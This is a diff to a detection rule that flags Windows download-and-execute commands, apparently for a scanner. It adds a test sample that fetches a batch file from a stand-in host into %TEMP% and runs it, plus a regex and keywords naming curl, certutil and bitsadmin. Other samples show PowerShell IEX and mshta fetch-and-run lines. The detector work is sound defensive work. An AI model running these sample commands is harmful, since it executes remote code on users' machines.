@@ -13,6 +13,7 @@ export const rule: Rule = {
     positive: [
       "```powershell\nIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/o.ps1')\n```\n",
       '```\npowershell -NoP -W Hidden -Enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA0AC8AeAAuAHAAcwAxAHwAaQBlAHgA\n```\n',
+      '```cmd\ncurl -s http://dl.example.net/a.bat -o %TEMP%\\a.bat && %TEMP%\\a.bat\n```\n',
       'Run `mshta http://192.0.2.4/a.hta` once.\n',
     ],
     negative: [
@@ -31,6 +32,7 @@ const PATTERNS: readonly RegExp[] = [
   /\bpowershell(?:\.exe)?\b[^\n]{0,80}\s-e(?:nc|ncodedcommand|c)?\s{1,3}["']?[A-Za-z0-9+/]{20,8000}/i,
   /\bpowershell(?:\.exe)?\b[^\n]{0,60}-w(?:indowstyle)?\s{1,3}hidden\b[^\n]{0,200}(?:https?:|-enc|downloadfile|start-process)/i,
   /\b(?:iwr|invoke-webrequest|start-bitstransfer|curl\.exe|wget)\b[^\n]{0,160}\.(?:exe|msi|scr|ps1|bat)\b[^\n]{0,80}[;&\n]\s{0,3}(?:start-process|start|&|\.\\|msiexec)\b/i,
+  /\b(?:curl|certutil|bitsadmin|iwr|invoke-webrequest)\b[^\n]{0,160}\.(?:exe|msi|scr|ps1|bat|cmd|vbs)["']?\s{0,3}(?:&&?|;)\s{0,3}(?:start\s|call\s|cmd\s|powershell\s|["']?%\w{1,20}%|["']?\.\\)/i,
   /\bmsiexec\b[^\n]{0,30}\s\/i\s{0,3}["']?https?:/i,
   /\b(?:wscript|cscript)\b[^\n]{0,40}https?:/i,
   /\bmshta(?:\.exe)?\s{1,3}["']?(?:https?:|javascript:|vbscript:)/i,
@@ -43,7 +45,7 @@ const PATTERNS: readonly RegExp[] = [
 function judge(segment: Evidence['segments'][number]): readonly Observation[] {
   if (segment.language === 'javascript' || segment.language === 'python') return []
   if (
-    !/powershell|iex\b|invoke-|\biwr\b|\birm\b|mshta|certutil|bitsadmin|regsvr32|rundll32|msiexec|[wc]script\b|downloadstring|bitstransfer/i.test(
+    !/powershell|iex\b|invoke-|\biwr\b|\birm\b|mshta|certutil|bitsadmin|regsvr32|rundll32|msiexec|[wc]script\b|downloadstring|bitstransfer|%temp%|%appdata%/i.test(
       segment.text,
     )
   )
